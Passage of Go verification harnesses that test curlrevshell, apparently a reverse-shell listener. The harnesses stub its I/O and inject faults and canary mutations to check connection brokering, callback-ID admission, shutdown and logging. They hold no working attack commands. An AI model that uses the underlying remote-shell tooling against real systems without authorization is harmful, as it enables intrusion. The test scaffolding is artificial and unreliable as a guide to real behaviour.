	exited       bool // log.Fatalf / os.Exit reached: deferred functions do not run in reality
	exitStatus   int
	exitMsg      string
	printfMsgs   []string
	termOut      []string
	rawState     *goxterm.State
	rawEntered   bool
	restored     int
	logOpenFlags int
	logOpenPerm  fs.FileMode
	logOpened    int
	goContexts   int
	waited       int
	stdoutWrites int
)

var errCause = errors.New("CAUSE-OF-FAILURE")

func stubFlagString(name, value, usage string) *string {
	v := value
	switch name {
	case "log":
		v = cfgLogFile
	case "ctrl-i":
		v = cfgInsertFile
	}
	return &v
}
func stubFlagBool(name string, value bool, usage string) *bool {
	v := value
	switch name {
	case "print-default-template":
		v = cfgPrintTemplate
	case "print-ctrl-i":
		v = cfgPrintCtrlI
	case "icanhazip":
		v = cfgIcanhazip
	case "no-timestamps":
		v = true
	}
	return &v
}
func stubFlagStringVar(p *string, name, value, usage string) {}
func stubFlagFunc(name, usage string, fn func(string) error) {}
func stubFlagParse()                                         {}
func stubGetenv(k string) string                             { return "" }
func stubDefaultCertFile() string                            { return "cert.txtar" }
func stubWriteString(w io.Writer, s string) (int, error) {
	stdoutWrites++
	if failWriteStdout {
		return 0, errCause
	}
	return len(s), nil
}
func stubOpenFile(name string, flag int, perm fs.FileMode) (*os.File, error) {
	logOpened++
	logOpenFlags, logOpenPerm = flag, perm
	if failOpenLog {
		return nil, errCause
	}
	return &os.File{}, nil
}
func stubFileClose(f *os.File) error                  { return nil }
func stubFileWrite(f *os.File, b []byte) (int, error) { stdoutWrites++; return len(b), nil }
func stubFileFd(f *os.File) uintptr                   { return 3 }
func stubOsOpen(name string) (*os.File, error) {
	if failTTY {
		return nil, errCause
	}
	return &os.File{}, nil
}

type stubFI struct{ size int64 }

func (f stubFI) Name() string       { return "x" }
func (f stubFI) Size() int64        { return f.size }
func (f stubFI) Mode() fs.FileMode  { return 0o644 }
func (f stubFI) ModTime() time.Time { return time.Time{} }
func (f stubFI) IsDir() bool        { return false }
func (f stubFI) Sys() any           { return nil }

func stubOsStat(name string) (os.FileInfo, error) {
	switch statClass {
	case 1:
		return nil, &fs.PathError{Op: "stat", Path: name, Err: fs.ErrNotExist}
	case 2:
		return nil, errCause
	case 3:
		return stubFI{0}, nil
	}
	return stubFI{5}, nil
}
func stubFatalf(format string, v ...any) {
	exitMsg = fmt.Sprintf(format, v...)
	exitStatus = 1
	exited = true
	panic(exitNow{})
}
func stubPrintf(format string, v ...any) { printfMsgs = append(printfMsgs, fmt.Sprintf(format, v...)) }

func stubJSONHandler(w io.Writer, o *slog.HandlerOptions) *slog.JSONHandler { return nil }
func stubSlogNew(h slog.Handler) *slog.Logger                               { return verifNewLogger() }
func stubConvFrom(c *shellfuncsfile.Converter, sources ...string) ([]byte, error) {
	if failConvert {
		return nil, errCause
	}
	return []byte("payload"), nil
}
func stubNewTerminal(c interface {
	Read([]byte) (int, error)
	Write([]byte) (int, error)
}, prompt string) *goxterm.Terminal {
	return &goxterm.Terminal{Escape: &goxterm.EscapeCodes{}}
}
func stubTermWrite(t *goxterm.Terminal, b []byte) (int, error) {
	termOut = append(termOut, string(b))
	return len(b), nil
}
func stubTermSetSize(t *goxterm.Terminal, w, h int) error { return nil }
func stubTermSetPrompt(t *goxterm.Terminal, p string)     {}
func stubGetSize(fd int) (int, int, error) {
	if failSize {
		return 0, 0, errCause
	}
	return 80, 24, nil
}
func stubMakeRaw(fd int) (*goxterm.State, error) {
	if failRaw {
		return nil, errCause
	}
	rawState = &goxterm.State{}
	rawEntered = true
	return rawState, nil
}
func stubRestore(fd int, st *goxterm.State) error {
	if st == rawState && !exited {
		restored++
	}
	return nil
}
func stubIPv4() (netip.Addr, error) {
	if failIcan {
		return netip.Addr{}, errCause
	}
	return netip.Addr{}, nil
}
func stubAddrString(a netip.Addr) string { return "192.0.2.1" }
func stubHsrvNew(sl *slog.Logger, addr, fdir, tmplf string, ich <-chan string, och chan<- opshell.CLine, iob *iobroker.Broker,
	certFile string, cbAddrs []string, printIPv6, oneShell bool) (*hsrv.Server, error) {
	if failHsrv {
		return nil, errCause
	}
	return &hsrv.Server{}, nil
}
func stubGoContext(g *ctxerrgroup.Group, ctx context.Context, f func(context.Context) error) {
	goContexts++
}
func stubGroupWait(g *ctxerrgroup.Group) error {
	waited++
	switch groupClass {
	case 1:
		return io.EOF
	case 2:
		return fmt.Errorf("reading line: %w", io.EOF)
	case 3:
		return hsrv.ErrOneShellClosed
	case 4:
		return errCause
	}
	return nil
}

func anyContains(ss []string, sub string) bool {
	for _, s := range ss {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

// HarnessC20Main: one run of rmain under an arbitrary combination of configuration and faults.
func HarnessC20Main() {
	cfgPrintTemplate = nondetBool()
	cfgPrintCtrlI = nondetBool()
	cfgIcanhazip = nondetBool()
	if nondetBool() {
		cfgLogFile = "the.log"
	}
	if nondetBool() {
		cfgInsertFile = "funcs"
	}
	failWriteStdout, failOpenLog, failConvert = nondetBool(), nondetBool(), nondetBool()
	failTTY, failSize, failRaw = nondetBool(), nondetBool(), nondetBool()
	failIcan, failHsrv = nondetBool(), nondetBool()
	statClass = nondetChoice(4)
	groupClass = nondetChoice(5)

	status := -1
	func() {
		defer func() {
			if r := recover(); r != nil {
				if _, ok := r.(exitNow); ok {
					status = exitStatus
					return
				}
				panic(r) // a real Go panic: reported by the engine as a violation
			}
		}()
		status = rmain()
	}()

	// expected outcome.  The statement does not fix the order in which start-up steps are taken,
	// so with several faults at once any one of them may be the one that is reported.
	brokerFailed := anyContains(printfMsgs, "setting up comms")
	logFault := cfgLogFile != "" && failOpenLog
	ctrlIFault := cfgPrintCtrlI && (cfgInsertFile == "" || failConvert)
	runFaults := !cfgPrintCtrlI && (failTTY || failSize || failRaw || cfgIcanhazip && failIcan || failHsrv)
	causeNamed := strings.Contains(exitMsg, "CAUSE-OF-FAILURE") || anyContains(termOut, "CAUSE-OF-FAILURE") || anyContains(printfMsgs, "CAUSE-OF-FAILURE")
	switch {
	case cfgPrintTemplate:
		verifAssert((status == 0) == !failWriteStdout, "C20.print-template-status")
		verifAssert(!rawEntered, "C20.informational-flags-leave-the-terminal-alone")
	case brokerFailed:
		// the entropy source failed inside iobroker.New (engine fork): clean non-zero exit
		verifAssert(status != 0, "C20.broker-setup-failure-is-clean")
	case cfgPrintCtrlI && logFault && !ctrlIFault:
		// printing the Ctrl+I payload does not need the log file: failing on it or not are both fine
		verifAssert(!rawEntered, "C20.informational-flags-leave-the-terminal-alone")
	case logFault || ctrlIFault || runFaults:
		verifAssert(status != 0, "C20.startup-failure-is-nonzero")
		if ctrlIFault && cfgInsertFile == "" {
			// "no source configured" carries no underlying error; with a log fault as well either may be reported
			verifAssert(exitMsg != "", "C20.missing-ctrl-i-source-reported")
		} else {
			verifAssert(causeNamed, "C20.startup-failure-names-a-cause")
		}
		if logFault && !ctrlIFault && !runFaults {
			verifAssert(strings.Contains(exitMsg, "the.log"), "C20.unopenable-log-file-named")
		}
		if cfgPrintCtrlI {
			verifAssert(!rawEntered, "C20.informational-flags-leave-the-terminal-alone")
		}
	case cfgPrintCtrlI:
		verifAssert(status == 0, "C20.print-ctrl-i-ok")
		verifAssert(!rawEntered, "C20.informational-flags-leave-the-terminal-alone")
	default:
		ok := groupClass != 4
		if verifCanary() {
			ok = groupClass == 0
		}
		verifAssert((status == 0) == ok, "C12.exit-status-success-iff-eof-or-one-shell-closed")
		verifAssert(goContexts == 3 && waited == 1, "C20.all-three-subsystems-started")
		if !ok {
			verifAssert(anyContains(termOut, "CAUSE-OF-FAILURE"), "C20.fatal-error-reported")
		}
	}
	if logOpened > 0 {
		verifAssert(logOpened == 1 && logOpenFlags == os.O_CREATE|os.O_WRONLY|os.O_APPEND && logOpenPerm == 0o600, "C11.log-file-append-only-owner-only")
	}
	if cfgLogFile != "" && status == 0 && !cfgPrintTemplate && !cfgPrintCtrlI {
		verifAssert(logOpened == 1, "C11.log-file-opened-when-configured")
	}
	// whenever raw mode was entered, the terminal is put back before the program ends
	if rawEntered {
		verifAssert(restored == 1, "C20.terminal-restored-on-every-exit")
	} else {
		verifAssert(restored == 0, "C20.no-restore-without-raw-mode")
	}
	verifReach("C20.main.end")
}
