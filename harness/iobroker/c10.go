package iobroker

// C10 (broker side): client address and callback ID appear verbatim in the broker's notices.

import "github.com/magisterquis/curlrevshell/lib/opshell"

// HarnessC10Broker: Logf/Errorf with a client-controlled address (arbitrary bytes) and a
// client-controlled ID rendered with %q (printable ASCII without quote/backslash: the class the
// engine's %q model covers exactly).
func HarnessC10Broker() {
	och := make(chan opshell.CLine, 4)
	b := &Broker{och: och}
	addr := nondetString(verifParam("n"))
	key := nondetString(verifParam("n"))
	for i := 0; i < len(key); i++ {
		verifAssume(key[i] >= 0x20 && key[i] <= 0x7e && key[i] != '"' && key[i] != '\\')
	}
	which := nondetChoice(2)
	want := ""
	if which == 0 {
		b.Logf(addr, "%s connected: ID %q", "Input", key)
		want = "[" + addr + "] Input connected: ID \"" + key + "\""
	} else {
		b.Errorf(addr, "Rejected %s connection with ID %q, expected %q", "output", key, "k2")
		want = "[" + addr + "] Rejected output connection with ID \"" + key + "\", expected \"k2\""
	}
	if verifCanary() {
		want += "%"
	}
	cl := <-och
	verifAssert(cl.Line == want, "C10.broker.verbatim")
	verifReach("C10.broker.end")
}
