package iobroker

// C04 (shutdown and event fan-out): Do finishes only after every attached stream has ended,
// nothing is admitted once shutdown has begun, and every broker event reaches each registered
// listener exactly once (none after removal).

import (
	"context"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

type blockW struct{ n *int }

func (w blockW) Write(p []byte) (int, error) { *w.n++; return len(p), nil }

// HarnessC04Shutdown: an input stream is attached, then the program shuts down.
func HarnessC04Shutdown() {
	och := make(chan opshell.CLine, 32)
	ich := make(chan string, 2)
	b := &Broker{ich: ich, och: och, bidirKey: "bk", evCh: make(chan Event, 16), evListeners: map[chan<- Event]struct{}{}}
	lis := make(chan Event, 8)
	lis2 := make(chan Event, 8)
	b.AddEventListener(lis)
	b.AddEventListener(lis2)
	b.RemoveEventListener(lis2)
	sl := verifNewLogger()
	ctx, cancel := context.WithCancel(context.Background())
	doDone := make(chan struct{})
	go func() {
		b.Do(ctx)
		close(doDone)
	}()
	sctx, scancel := context.WithCancel(context.Background())
	inDone := make(chan struct{})
	writes := 0
	go func() {
		b.ConnectIn(sctx, sl, "a", blockW{&writes}, "id")
		close(inDone)
	}()
	verifQuiesce()
	b.mu.Lock()
	attached := b.cancelIn != nil
	b.mu.Unlock()
	verifAssert(attached, "C04.shutdown.stream-attached")
	cancel() // shutdown begins
	verifQuiesce()
	returned := false
	select {
	case <-doDone:
		returned = true
	default:
	}
	if verifCanary() {
		returned = !returned
	}
	verifAssert(!returned, "C04.shutdown-waits-for-attached-streams")
	// a new attempt during shutdown is refused at once and silently
	before := len(och)
	b.ConnectOut(context.Background(), sl, "b", tagEOF{}, "id")
	b.mu.Lock()
	outAttached := b.cancelOut != nil
	b.mu.Unlock()
	verifAssert(!outAttached && len(och) == before, "C04.nothing-admitted-during-shutdown")
	// the stream ends: now Do may finish
	scancel()
	verifQuiesce()
	select {
	case <-doDone:
		returned = true
	default:
		returned = false
	}
	verifAssert(returned, "C04.shutdown-finishes-once-streams-ended")
	select {
	case <-inDone:
	default:
		verifAssert(false, "C04.stream-ended")
	}
	verifReach("C04.shutdown.end")
}

// HarnessC04ShutdownRace: shutdown begins at an ARBITRARY point of an attempt that is being
// admitted (the scheduler decides): whenever Do has returned, no stream is attached, and none
// attaches afterwards.
func HarnessC04ShutdownRace() {
	och := make(chan opshell.CLine, 32)
	ich := make(chan string, 2)
	b := &Broker{ich: ich, och: och, bidirKey: "bk", evCh: make(chan Event, 16), evListeners: map[chan<- Event]struct{}{}}
	sl := verifNewLogger()
	ctx, cancel := context.WithCancel(context.Background())
	doDone := make(chan struct{})
	attachedAtReturn := false
	go func() {
		b.Do(ctx)
		b.mu.Lock()
		attachedAtReturn = b.cancelIn != nil
		b.mu.Unlock()
		close(doDone)
	}()
	sctx, scancel := context.WithCancel(context.Background())
	inDone := make(chan struct{})
	writes := 0
	go func() {
		b.ConnectIn(sctx, sl, "a", blockW{&writes}, "id")
		close(inDone)
	}()
	cancel() // shutdown begins, somewhere relative to the attempt
	verifQuiesce()
	returned := false
	select {
	case <-doDone:
		returned = true
	default:
	}
	b.mu.Lock()
	attached := b.cancelIn != nil
	b.mu.Unlock()
	ok := !attachedAtReturn && !(returned && attached)
	if verifCanary() {
		ok = returned && attached
	}
	verifAssert(ok, "C04.shutdown.do-never-returns-while-a-stream-is-attached")
	// C01's shutdown clause: an attempt made while the program is shutting down is refused -
	// once shutdown has completed, nothing is attached
	verifAssert(!(returned && attached) || verifCanary(), "C01.shutdown.nothing-attached-once-shutdown-completed")
	scancel()
	verifQuiesce()
	select {
	case <-doDone:
	default:
		verifAssert(false, "C04.shutdown-finishes-once-streams-ended")
	}
	select {
	case <-inDone:
	default:
		verifAssert(false, "C04.stream-ended")
	}
	verifReach("C04.shutdownrace.end")
}

type tagEOF struct{}

func (tagEOF) Read(p []byte) (int, error) { return 0, errStubRead }

// HarnessC04Events: events emitted by the broker are forwarded to each registered listener
// exactly once, in order, and not to a removed listener.
func HarnessC04Events() {
	n := verifParam("n")
	b := &Broker{och: make(chan opshell.CLine, 4), evCh: make(chan Event, 16), evListeners: map[chan<- Event]struct{}{}}
	l1 := make(chan Event, 8)
	l2 := make(chan Event, 8)
	l3 := make(chan Event, 8)
	b.AddEventListener(l1)
	b.AddEventListener(l2)
	b.AddEventListener(l3)
	b.RemoveEventListener(l3)
	var sent []EventType
	for i := 0; i < n; i++ {
		t := EventTypeConnected
		if nondetBool() {
			t = EventTypeDisconnected
		}
		sent = append(sent, t)
		b.evCh <- Event{Type: t}
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		b.processEvents(ctx)
		close(done)
	}()
	verifQuiesce()
	cancel()
	verifQuiesce()
	for _, l := range []chan Event{l1, l2} {
		verifAssert(len(l) == n, "C04.events.each-listener-gets-every-event-once")
		for i := 0; i < n && len(l) > 0; i++ {
			e := <-l
			verifAssert(e.Type == sent[i], "C04.events.in-order")
		}
	}
	verifAssert(len(l3) == 0, "C04.events.none-after-removal")
	verifReach("C04.events.end")
}
