package iobroker

// Harness for C02 (operator input reaches the shell intact, in order, promptly) and the
// input half of C11: the real proxyIn is run against a recording writer of each kind, with the
// queued lines, the failure point and the cancellation point symbolic.

import (
	"context"
	"errors"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

type wEvent struct {
	kind string // "write" or "flush"
	data string
}

type recW struct {
	trace       *[]wEvent
	failWriteAt int // index of the write that fails (-1: none)
	failFlushAt int
	writes      int
	flushes     int
	cancelAt    int // cancel the context after this many writes (-1: never)
	cancel      func()
	wrong       bool // the error-less Flush of a writer that also has FlushError was used
}

var errStubIO = errors.New("stub i/o error")

func (w *recW) write(p []byte) (int, error) {
	*w.trace = append(*w.trace, wEvent{"write", string(p)})
	i := w.writes
	w.writes++
	if w.cancelAt == w.writes && w.cancel != nil {
		w.cancel()
	}
	if i == w.failWriteAt {
		return 0, errStubIO
	}
	return len(p), nil
}

func (w *recW) flush() error {
	*w.trace = append(*w.trace, wEvent{"flush", ""})
	i := w.flushes
	w.flushes++
	if i == w.failFlushAt {
		return errStubIO
	}
	return nil
}

type wPlain struct{ r *recW }

func (w wPlain) Write(p []byte) (int, error) { return w.r.write(p) }

type wFlushErr struct{ r *recW }

func (w wFlushErr) Write(p []byte) (int, error) { return w.r.write(p) }
func (w wFlushErr) FlushError() error           { return w.r.flush() }

type wFlusher struct{ r *recW }

func (w wFlusher) Write(p []byte) (int, error) { return w.r.write(p) }
func (w wFlusher) Flush()                      { w.r.flush() }

type wBoth struct{ r *recW }

func (w wBoth) Write(p []byte) (int, error) { return w.r.write(p) }
func (w wBoth) FlushError() error           { return w.r.flush() }

// Flush behaves like net/http's response.Flush: it performs the flush and swallows its error.
func (w wBoth) Flush() { w.r.wrong = true; w.r.flush() }

type ioWriter interface {
	Write(p []byte) (int, error)
}

func mkWriter(kind int, r *recW) ioWriter {
	switch kind {
	case 0:
		return wPlain{r}
	case 1:
		return wFlushErr{r}
	case 2:
		return wFlusher{r}
	}
	return wBoth{r}
}

// checkShellRun checks one proxyIn run: trace vs. the lines that were queued from position
// `from`; returns how many lines were consumed from the queue.
func checkShellRun(kind int, trace []wEvent, lines []string, from int, r *recW, err error, logFrom int, label string) int {
	flushable := kind != 0
	consumed := 0
	pos := 0
	delivered := 0
	for pos < len(trace) {
		ev := trace[pos]
		verifAssert(ev.kind == "write", label+".write-then-flush-order")
		if from+consumed >= len(lines) {
			verifAssert(false, label+".no-invented-lines")
			return consumed
		}
		want := lines[from+consumed] + "\n"
		if verifCanary() && consumed == 0 {
			want = lines[from+consumed] + "\n\n"
		}
		verifAssert(ev.data == want, label+".line-intact-one-newline")
		wfailed := consumed == r.failWriteAt
		consumed++
		pos++
		if wfailed {
			verifAssert(pos == len(trace), label+".nothing-after-failed-write")
			break
		}
		if flushable {
			verifAssert(pos < len(trace) && trace[pos].kind == "flush", label+".flushed-before-next-line")
			if pos >= len(trace) {
				break
			}
			ffailed := kind != 2 && r.flushes-1 >= 0 && (delivered == r.failFlushAt)
			pos++
			if ffailed {
				verifAssert(pos == len(trace), label+".nothing-after-failed-flush")
				break
			}
		}
		delivered++
	}
	// log: exactly one Shell I/O record per delivered line, in order, carrying line + "\n"
	verifAssert(verifLogCount()-logFrom == delivered, "C11.input.one-record-per-delivered-line")
	for i := 0; i < delivered && logFrom+i < verifLogCount(); i++ {
		verifAssert(verifLogMsg(logFrom+i) == LMShellIO, "C11.input.record-is-shell-io")
		verifAssert(verifLogAttr(logFrom+i, LKData) == lines[from+i]+"\n", "C11.input.record-data")
	}
	failed := delivered < consumed
	if failed {
		verifAssert(err != nil && errors.Is(err, errStubIO), label+".transmission-error-reported")
	}
	return consumed
}

// HarnessC02: k queued lines (arbitrary bytes, embedded newlines included), writer kind,
// failure point and cancellation point symbolic; optionally a second shell afterwards.
func HarnessC02() {
	k := verifParam("k")
	m := verifParam("m")
	kind := verifParam("kind")
	ich := make(chan string, k+1)
	lines := make([]string, k)
	for i := range lines {
		lines[i] = nondetString(nondetLen(m))
		ich <- lines[i]
	}
	closed := nondetBool()
	if closed {
		close(ich)
	}
	b := &Broker{ich: ich, och: make(chan opshell.CLine, 4)}
	sl := verifNewLogger()

	var trace []wEvent
	ctx, cancel := context.WithCancel(context.Background())
	r := &recW{trace: &trace, failWriteAt: nondetChoice(k+2) - 1, failFlushAt: nondetChoice(k+2) - 1, cancelAt: nondetChoice(k+2) - 1, cancel: cancel}
	if r.failWriteAt >= 0 && r.failFlushAt >= 0 {
		verifAssume(false) // one fault per shell is enough
	}
	ends := closed || r.failWriteAt >= 0 && r.failWriteAt < k || (kind == 1 || kind == 3) && r.failFlushAt >= 0 && r.failFlushAt < k || r.cancelAt >= 0
	if r.cancelAt == 0 {
		cancel()
	}
	verifAssume(ends) // otherwise proxyIn (correctly) waits for more input for ever
	err := b.proxyIn(ctx, sl, mkWriter(kind, r))
	verifAssert(!r.wrong, "C02.prefers-error-reporting-flush")
	c1 := checkShellRun(kind, trace, lines, 0, r, err, 0, "C02.shell1")
	failed1 := err != nil
	if !failed1 {
		verifAssert(err == nil, "C02.clean-end-is-nil")
	}
	// what is left in the queue is exactly the unconsumed suffix, in order
	verifAssert(len(ich) == k-c1, "C02.unconsumed-lines-are-held")
	verifReach("C02.shell1.done")

	if verifParam("two") == 1 && !closed {
		// second shell: starts exactly where the first stopped
		var trace2 []wEvent
		ctx2, cancel2 := context.WithCancel(context.Background())
		r2 := &recW{trace: &trace2, failWriteAt: -1, failFlushAt: -1, cancelAt: -1}
		left := k - c1
		if left == 0 {
			cancel2()
		} else {
			r2.cancelAt = left
			r2.cancel = cancel2
		}
		n0 := verifLogCount()
		err2 := b.proxyIn(ctx2, sl, mkWriter(kind, r2))
		verifAssert(err2 == nil, "C02.shell2.clean")
		c2 := checkShellRun(kind, trace2, lines, c1, r2, err2, n0, "C02.shell2")
		verifAssert(c2 <= left, "C02.shell2.no-duplicates")
		verifReach("C02.shell2.done")
	}
}

// HarnessC02ChanWriter: the operator side: a Write of arbitrary bytes puts exactly one entry
// equal to those bytes on the input channel.
func HarnessC02ChanWriter() {
	ch := make(chan string, 64)
	var p []byte
	if big := verifParam("big"); big > 0 {
		p = bigPayload(big)
	} else {
		p = nondetBytes(nondetLen(verifParam("m")), 0)
	}
	n, err := opshell.ChanWriter(ch).Write(p)
	verifAssert(err == nil && n == len(p), "C02.chanwriter.reports-all")
	verifAssert(len(ch) == 1, "C02.chanwriter.one-entry")
	got := <-ch
	verifAssert(got == string(p), "C02.chanwriter.bytes-intact")
	verifReach("C02.chanwriter")
}

// bigPayload: a payload of big-1, big or big+1 bytes: filler with arbitrary bytes (newlines
// included) at the ends, in the middle and around the quarter points, so very long lines and
// multi-line payloads of that size are both covered.
func bigPayload(big int) []byte {
	size := big - 1 + nondetChoice(3)
	p := make([]byte, size)
	for i := range p {
		p[i] = 'x'
	}
	for _, at := range []int{0, size / 4, size / 2, size/2 + 1, size - size/4, size - 2, size - 1} {
		if at >= 0 && at < size {
			p[at] = nondetByte()
		}
	}
	return p
}
