package iobroker

// Harnesses for C01 (one shell at a time, same callback ID, refusals are clean) and for the
// release half of C04.  The broker serialises everything through two critical sections of
// connect (admission and release) separated by the proxy call; each harness runs ONE such
// step of the real code from an ARBITRARY broker state satisfying invariant I (below), with
// the attempt's direction and ID symbolic, and checks the step against an independently
// written oracle.  Every history is a sequence of such steps.

import (
	"context"
	"errors"
	"log/slog"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

type c01State struct {
	b         *Broker
	och       chan opshell.CLine
	ich       chan string
	inCanc    int // times the pre-existing input cancel func was called
	outCanc   int
	gKeyIn    string // ghost: ID the attached input stream was opened with
	gKeyOut   string
	tearing   bool
	preKey    string
	preIn     bool
	preOut    bool
	preNoMore bool
}

// arbitraryState builds a broker in an arbitrary state satisfying invariant I:
//
//	I1  key != ""        => input attached or output attached
//	I2  X attached       => gKeyX != "" and (key == "" or key == gKeyX)
//	I3  both attached    => gKeyIn == gKeyOut  (when key != "")                [the property]
//	I4  tearing          <=> key == "" and something attached
func arbitraryState(L, Lb int) *c01State {
	st := &c01State{}
	st.och = make(chan opshell.CLine, 16)
	st.ich = make(chan string, 4)
	b := &Broker{
		ich:         st.ich,
		och:         st.och,
		bidirKey:    nondetString(Lb),
		evCh:        make(chan Event, 16),
		evListeners: make(map[chan<- Event]struct{}),
	}
	st.b = b
	kl := nondetLen(L)
	b.key = nondetString(kl)
	st.preIn = nondetBool()
	st.preOut = nondetBool()
	setFlag(&b.noMore, nondetBool())
	if st.preIn {
		b.cancelIn = func() { st.inCanc++ }
	}
	if st.preOut {
		b.cancelOut = func() { st.outCanc++ }
	}
	// invariant
	if b.key != "" {
		verifAssume(st.preIn || st.preOut) // I1
		if st.preIn {
			st.gKeyIn = b.key
		}
		if st.preOut {
			st.gKeyOut = b.key
		}
	} else {
		// tearing down (or idle): whatever is still attached was opened with some non-empty ID
		if st.preIn {
			st.gKeyIn = nondetString(1 + nondetLen(L-1))
		}
		if st.preOut {
			st.gKeyOut = nondetString(1 + nondetLen(L-1))
		}
		verifAssume(!(st.preIn && st.preOut)) // both attached with the key cleared is unreachable: release clears own side
	}
	st.tearing = b.key == "" && (st.preIn || st.preOut)
	st.preKey = b.key
	st.preNoMore = getFlag(&b.noMore)
	return st
}

func drain(och chan opshell.CLine) []opshell.CLine {
	var out []opshell.CLine
	for {
		select {
		case cl := <-och:
			out = append(out, cl)
		default:
			return out
		}
	}
}

func drainEvents(ch chan Event) []Event {
	var out []Event
	for {
		select {
		case e := <-ch:
			out = append(out, e)
		default:
			return out
		}
	}
}

// HarnessC01Step: one connect step (admission or refusal, then release) from an arbitrary state.
func HarnessC01Step() {
	L := verifParam("L")
	st := arbitraryState(L, verifParam("Lb"))
	b := st.b
	isIn := nondetBool()
	bidir := nondetBool()
	var id string
	if bidir {
		id = b.bidirKey
	} else {
		id = nondetString(nondetLen(L))
	}
	cancelUs, cancelOther := &b.cancelIn, &b.cancelOut
	dir := LVInput
	usAttached, otherAttached := st.preIn, st.preOut
	if !isIn {
		cancelUs, cancelOther = &b.cancelOut, &b.cancelIn
		dir = LVOutput
		usAttached, otherAttached = st.preOut, st.preIn
	}

	// independent oracle
	admit := !st.preNoMore && id != "" && !st.tearing && !usAttached && (st.preKey == "" || id == st.preKey)
	if verifCanary() {
		admit = admit && !otherAttached
	}

	entered := 0
	peerLate := 0
	lateAttach, peerLeftFirst := false, false
	proxyErr := nondetBool()
	var inProxyOK bool
	var midLines []opshell.CLine
	var midEvents []Event
	proxy := func(ctx context.Context, sl *slog.Logger) error {
		entered++
		// state as seen by everybody else while this stream is attached
		b.mu.Lock()
		inProxyOK = *cancelUs != nil && b.key == id
		b.mu.Unlock()
		midLines = drain(st.och)
		midEvents = drainEvents(b.evCh)
		// interference: while this stream is attached, the other actors may take their own atomic
		// steps (each under the broker's mutex): the peer direction attaches with the same ID, the
		// attached peer ends (its release step: clears the key and its cancel function and asks
		// us to stop), or shutdown begins.
		b.mu.Lock()
		switch nondetChoice(4) {
		case 1:
			if *cancelOther == nil && b.key == id {
				*cancelOther = func() { peerLate++ }
				otherAttached = true
				lateAttach = true
			}
		case 2:
			if *cancelOther != nil {
				*cancelOther = nil
				b.key = ""
				otherAttached = false
				peerLeftFirst = true
			}
		case 3:
			setFlag(&b.noMore, true)
		}
		b.mu.Unlock()
		if proxyErr {
			return errors.New("transport failed")
		}
		return nil
	}
	sl := verifNewLogger()
	// the attempt's own request context may already be finished (the client hung up right after
	// sending its headers): that changes nothing about admission, refusal or what is recorded
	rctx, rcancel := context.WithCancel(context.Background())
	if nondetBool() {
		rcancel()
	}
	b.connect(rctx, sl, "addr", cancelUs, cancelOther, dir, id, proxy)
	rcancel()

	if !admit {
		verifAssert(entered == 0, "C01.refused.no-io")
		verifAssert(b.key == st.preKey, "C01.refused.key-unchanged")
		verifAssert((b.cancelIn != nil) == st.preIn && (b.cancelOut != nil) == st.preOut, "C01.refused.streams-unchanged")
		verifAssert(getFlag(&b.noMore) == st.preNoMore, "C01.refused.nomore-unchanged")
		verifAssert(st.inCanc == 0 && st.outCanc == 0, "C01.refused.nobody-cancelled")
		lines := drain(st.och)
		if st.preNoMore {
			verifAssert(len(lines) == 0, "C01.refused.silent-during-shutdown")
			verifAssert(verifLogCount() == 0, "C11.refused.no-record-during-shutdown")
		} else {
			verifAssert(len(lines) == 1, "C01.refused.operator-told-once")
			if len(lines) == 1 {
				verifAssert(lines[0].Color == errColor && !lines[0].Plain, "C01.refused.notice-is-red")
			}
			verifAssert(verifLogCount() == 1, "C11.refused.one-error-record")
			if verifLogCount() == 1 {
				verifAssert(verifLogLevel(0) == 8, "C11.refused.record-is-error")
				m := verifLogMsg(0)
				// the record must name a rule that does fail for this attempt
				ok := (m == LMKeyMissing && id == "") ||
					(m == LMDisconnecting && st.tearing) ||
					(m == LMAlreadyConnected && usAttached) ||
					(m == LMIncorrectKey && st.preKey != "" && id != st.preKey)
				verifAssert(ok, "C11.refused.reason-is-true")
			}
		}
		verifAssert(len(drainEvents(b.evCh)) == 0, "C04.refused.no-event")
		b.wg.Wait()
		verifReach("C01.refused")
		return
	}

	// admitted
	verifAssert(entered == 1, "C01.admitted.proxy-entered-once")
	verifAssert(inProxyOK, "C01.admitted.attached-with-own-id")
	// ready notice + connected event exactly when the peer was attached
	ready := 0
	for _, cl := range midLines {
		if cl.Line == "[addr] "+ShellReadyMessage {
			ready++
		}
		verifAssert(!cl.Plain, "C01.admitted.notices-not-plain")
	}
	conn := 0
	for _, e := range midEvents {
		if e.Type == EventTypeConnected {
			conn++
		}
		verifAssert(e.Type == EventTypeConnected, "C04.admitted.only-connected-event")
	}
	peerAtAdmission := usAttached != usAttached // placeholder, set below
	if isIn {
		peerAtAdmission = st.preOut
	} else {
		peerAtAdmission = st.preIn
	}
	if peerAtAdmission {
		verifAssert(ready == 1 && conn == 1, "C04.ready-exactly-at-full-attachment")
	} else {
		verifAssert(ready == 0 && conn == 0, "C04.no-ready-when-half-attached")
	}
	// release step
	verifAssert(b.key == "", "C04.release.key-cleared")
	verifAssert(*cancelUs == nil, "C04.release.own-cancel-cleared")
	verifAssert((*cancelOther != nil) == otherAttached, "C04.release.peer-untouched")
	verifQuiesce()
	peerCancels := st.outCanc
	ownCancels := st.inCanc
	if !isIn {
		peerCancels, ownCancels = st.inCanc, st.outCanc
	}
	peerCancels += peerLate
	if otherAttached {
		verifAssert(peerCancels == 1, "C04.release.peer-cancelled-once")
	} else {
		verifAssert(peerCancels == 0, "C04.release.no-peer")
	}
	if lateAttach {
		verifReach("C04.release.peer-attached-meanwhile")
	}
	if peerLeftFirst {
		verifReach("C04.release.peer-left-first")
	}
	verifAssert(ownCancels == 0, "C04.release.own-prestate-cancel-not-called")
	lines := drain(st.och)
	gone := 0
	for _, cl := range lines {
		if cl.Line == "[addr] "+ShellDisconnectedMessage {
			gone++
		}
	}
	evs := drainEvents(b.evCh)
	disc := 0
	for _, e := range evs {
		if e.Type == EventTypeDisconnected {
			disc++
		}
	}
	if otherAttached {
		verifAssert(gone == 0 && disc == 0, "C04.gone-only-by-last-direction")
	} else {
		verifAssert(gone == 1 && disc == 1 && len(evs) == 1, "C04.gone-exactly-once")
	}
	// log: New connection then exactly one Disconnected (Info or Error with the error)
	n := verifLogCount()
	verifAssert(n == 2, "C11.admitted.connect-and-disconnect-records")
	if n == 2 {
